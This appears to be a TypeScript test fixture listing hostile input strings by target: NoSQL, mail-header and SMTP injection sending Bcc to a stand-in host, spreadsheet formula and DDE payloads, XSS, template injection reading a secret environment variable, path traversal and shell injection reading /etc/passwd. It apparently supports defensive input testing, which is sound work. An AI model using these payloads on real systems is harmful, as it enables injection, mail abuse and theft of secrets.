/** Nobody of ours: a mail to this host, or a link to it, means that a text was run. */
export const STRANGER = 'evil.example';

/** Texts that do harm wherever they are taken for more than text, by what would take them so. */
export const HOSTILE_TEXTS: Record<string, readonly string[]> = {
  database: ['{"$ne":null}', "$where: 1 || 'a'=='a' // \")};", '.*'],
  'mail header': [
    `Dana\r\nBcc: victim@${STRANGER}`,
    `Dana\nBcc: victim@${STRANGER}`,
    `dana@example.edu\r\nBcc: victim@${STRANGER}`,
    `dana@example.edu, victim@${STRANGER}`,
    `Dana, Cohen" <victim@${STRANGER}>; "x`,
    `=?utf-8?q?x?= <victim@${STRANGER}>`,
    `Dana\u2028Bcc: victim@${STRANGER}`,
    `Dear all,\r\n.\r\nMAIL FROM:<a@example.edu>\r\nRCPT TO:<victim@${STRANGER}>\r\nDATA\r\n.\r\n`,
  ],
  spreadsheet: [
    `=HYPERLINK("https://${STRANGER}","x")`,
    "-cmd|'/c calc'!A0",
    '@SUM(1;1)',
    '\r=1+1',
    'a\n\t=1+1',
    '\u200b=1+1',
    '＝1+1',
    '+cmd@example.edu',
    '+972 50-1234567',
  ],
  'reading direction': ['abc\u202egnp.exe', '\u2066abc\u2069\u2069', '\u200fabc\u061c', 'abc\ufeff'],
  page: [
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    `"></title></td><a href="https://${STRANGER}">x</a>`,
    `' style='background:url(https://${STRANGER})`,
    `https://${STRANGER}/?<b>"'`,
    '&lt;b&gt;&amp;nbsp; javascript:alert(1)//',
  ],
  template: ["${process.env.SECRET_KEY} {{constructor.constructor('return 1')()}} <%= 7*7 %>", "$& $1 $$ $' {n} %s%n"],
  object: ['__proto__', 'constructor', 'undefined', 'null'],
  file: ['../../../../etc/passwd', '..\\..\\win.ini', '%2e%2e%2fetc%2fpasswd'],
  shell: ['; cat /etc/passwd $(id) `id` | true'],
  'broken text': ['a\0b', 'a\ud800b', '\udc00\ud800', '\u0007\u001b[31m\u0085x'],
  'unseen text': ['No\u200ba Levi', '\u3164\u3164\u3164', '\u00a0\u00a0\u00a0', ''],
  'unusual text': ['👩‍👩‍👧‍👦 Noa 👍🏽', `Zoe${'\u0301'.repeat(30)} cafe\u0301`, 'ﷺﷺﷺ İIı ß ﬁ 𝕹𝖔𝖆'],
  'long text': ['x'.repeat(6_000), 'é'.repeat(201), `${'a.'.repeat(2_000)}@`],
};
